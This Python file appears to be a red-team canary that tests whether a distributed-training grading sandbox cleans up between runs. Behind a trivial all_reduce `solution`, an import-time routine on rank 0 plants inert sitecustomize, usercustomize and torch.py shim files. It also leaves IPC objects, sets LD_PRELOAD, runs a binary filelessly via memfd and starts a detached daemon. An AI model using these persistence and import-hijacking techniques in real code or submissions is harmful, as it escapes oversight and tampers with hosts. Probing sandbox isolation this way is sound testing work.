import ctypes
import os
import socket
import subprocess
import sys
import time

import torch
import torch.distributed as dist

_NAME = "pkb_redteam_canary_left"
_held = []


def _file(folder, name=_NAME):
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, name), "w") as f:
            f.write("raise SystemExit('inert canary')\n")
    except OSError:
        pass


def _daemon():
    ready, tell = os.pipe()
    if os.fork():
        os.close(tell)
        os.read(ready, 1)
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for kind, where in ((socket.AF_UNIX, b"\0pkb_redteam_canary"), (socket.AF_INET, ("127.0.0.1", 31777))):
        try:
            s = socket.socket(kind, socket.SOCK_STREAM)
            s.bind(where)
            s.listen()
            _held.append(s)
        except OSError:
            pass
    for n in range(3, 64):
        if n not in [s.fileno() for s in _held]:
            try:
                os.close(n)
            except OSError:
                pass
    while True:
        time.sleep(1)


def _leave():
    home = os.path.expanduser("~")
    site = f"{home}/.local/lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages"
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", home, f"{home}/.cache/torch_extensions", f"{home}/.triton/cache",
                   os.environ.get("TORCH_EXTENSIONS_DIR", "/tmp/ext"), site, "/job", "/opt/pkb/rank", os.path.dirname(torch.__file__)):
        _file(folder)
    for folder in (site, "/tmp", "/opt/pkb/rank", "/job", os.getcwd()):
        for name in ("usercustomize.py", "sitecustomize.py", "shim.py", "torch.py"):
            _file(folder, name)
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmget(0x706B6201, 1 << 20, 0o1666)
    libc.msgget(0x706B6202, 0o1666)
    libc.semget(0x706B6203, 4, 0o1666)
    try:
        librt = ctypes.CDLL("librt.so.1")
        librt.mq_open(b"/pkb_redteam_canary", os.O_CREAT | os.O_RDWR, 0o666, None)
    except (OSError, AttributeError):
        pass
    os.putenv("PKB_LEFT", _NAME)
    os.environ["LD_PRELOAD"] = "/tmp/pkb_redteam_canary.so"
    fd = os.memfd_create("left")
    os.write(fd, open("/bin/sleep", "rb").read())
    try:
        subprocess.Popen([f"/proc/self/fd/{fd}", "3600"], pass_fds=(fd,), start_new_session=True)
    except OSError:
        pass
    _daemon()


if os.environ["RANK"] == "0":
    _leave()


def solution(tensor: torch.Tensor) -> torch.Tensor:
    out = tensor.clone()
    dist.all_reduce(out)
    return out
